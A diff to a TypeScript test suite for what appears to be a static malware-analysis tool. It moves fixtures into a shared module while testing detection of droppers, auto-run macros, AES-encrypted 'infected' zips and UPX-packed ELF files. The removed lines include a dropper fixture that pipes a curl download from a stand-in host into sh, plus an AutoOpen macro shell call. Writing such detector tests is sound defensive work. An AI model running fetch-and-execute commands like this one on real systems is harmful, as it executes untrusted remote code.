@@ -1,4 +1,4 @@
-import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
@@ -16,6 +16,7 @@ import {
   makePe,
   remoteTemplateRels,
 } from './documents';
+import { DROPPER, MACRO, upxMarkedElf, writeAesZip } from './corpus';
 import { analyzeFile, cli, findingById, findingIds, mediumOrAbove, ensureVenv, python, requireVenv } from './engine';
 
 /**
@@ -32,24 +33,11 @@ const write = (name: string, data: Buffer | string) => {
   return file(name);
 };
 
-const DROPPER = '#!/bin/sh\ncurl -fsSL http://example.invalid/payload.sh | sh\n';
-const MACRO = 'Sub AutoOpen()\n    Shell "cmd.exe /c echo sandtrap-test"\nEnd Sub\n';
-
-/** AES zips need pyzipper (Node has no AES zip writer): written by the venv's Python. */
-const AES_ZIPS = `
-import sys, pyzipper
-out, dropper = sys.argv[1], sys.argv[2]
-for name, password in (("aes-infected.zip", b"infected"), ("aes-unknown.zip", b"not-a-customary-one")):
-    with pyzipper.AESZipFile(out + "/" + name, "w", compression=pyzipper.ZIP_DEFLATED,
-                             encryption=pyzipper.WZ_AES) as archive:
-        archive.setpassword(password)
-        archive.writestr("dropper.sh", dropper)
-`;
-
 beforeAll(() => {
   dir = mkdtempSync(join(tmpdir(), 'sandtrap-static-'));
   ensureVenv();
-  python(AES_ZIPS, [dir, DROPPER]);
+  writeAesZip(file('aes-infected.zip'), 'infected', 'dropper.sh', DROPPER);
+  writeAesZip(file('aes-unknown.zip'), 'not-a-customary-one', 'dropper.sh', DROPPER);
 }, 420_000);
 
 afterAll(() => {
@@ -266,11 +254,7 @@ describe('executables and scripts', () => {
   });
 
   it('an ELF carrying UPX markers is reported as packed (T1027.002)', () => {
-    const marked = Buffer.concat([
-      readFileSync('/bin/true'),
-      Buffer.from('UPX!\0\0\0\0$Info: This file is packed with the UPX executable packer $\0', 'latin1'),
-    ]);
-    const report = analyzeFile(write('packed.elf', marked));
+    const report = analyzeFile(write('packed.elf', upxMarkedElf()));
     expect(findingById(report, 'elf.packed')).toMatchObject({ severity: 'medium', attack: ['T1027.002'] });
     expect(findingById(report, 'yara.packer_upx')?.attack).toEqual(['T1027.002']);
   });
